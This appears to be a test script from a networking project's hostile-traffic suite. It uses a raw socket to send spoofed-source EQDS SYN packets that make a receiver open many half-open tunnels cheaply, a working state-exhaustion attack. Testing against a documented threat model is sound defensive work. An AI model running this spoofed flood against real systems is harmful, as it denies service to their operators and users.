#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Create many receiving tunnels at an EQDS receiver, cheaply.

  eqds_tunnels.py --dst ADDR --peers CIDR --count N [--port N] [--pps N]

One spoofed SYN data packet from each of --count addresses of --peers
(from the 16th on), each the first of its epoch, with a valid inner
packet: it creates a receiving tunnel and is delivered at once. Such a
tunnel is half open (Documentation/threat-model.rst) and lives for the
receiver's half_open_ms module parameter. The packet asks for no credit
(pull target 0), so the receiver sends no pulls for it, only an ack.
Prints the sources' range as JSON.
"""
import argparse
import ipaddress
import json
import os
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from eqds_hostile import NP_IPV4, SYN, csum, data_hdr, inner4, isn  # noqa: E402


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--dst", required=True)
    p.add_argument("--peers", required=True)
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--port", type=int, default=6666)
    p.add_argument("--pps", type=int, default=0)
    a = p.parse_args()

    net = ipaddress.ip_network(a.peers)
    if a.count > net.num_addresses - 32:
        sys.exit("eqds_tunnels.py: --peers %s has room for %d sources, not %d"
                 % (a.peers, net.num_addresses - 32, a.count))
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    dst = socket.inet_aton(a.dst)
    first = int(net.network_address) + 16
    t0 = time.time()
    for i in range(a.count):
        src_s = str(ipaddress.ip_address(first + i))
        src = socket.inet_aton(src_s)
        epoch = (0x1000 + i * 7919) & 0xffffffff or 1
        if not isn(epoch) & 0xffff:	# the IP ID carries seq's low bits: never 0
            epoch += 1
        seq = isn(epoch)
        eqds = data_hdr(SYN, NP_IPV4, epoch, seq, pull_target=0)
        inner = inner4(src_s, a.dst)
        ulen = 8 + len(eqds) + len(inner)
        udp = struct.pack("!HHHH", 0xd000 | (i & 0xff), a.port, ulen, 0) + eqds + inner
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + ulen, seq & 0xffff, 0x4000, 64,
                         17, 0, src, dst)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        sock.sendto(ip + udp, (a.dst, 0))
        if a.pps and i % 50 == 49:
            ahead = (i + 1) / a.pps - (time.time() - t0)
            if ahead > 0:
                time.sleep(ahead)
    json.dump({"first": str(ipaddress.ip_address(first)),
               "last": str(ipaddress.ip_address(first + a.count - 1)),
               "count": a.count, "secs": round(time.time() - t0, 1)}, sys.stdout)
    print()


if __name__ == "__main__":
    main()
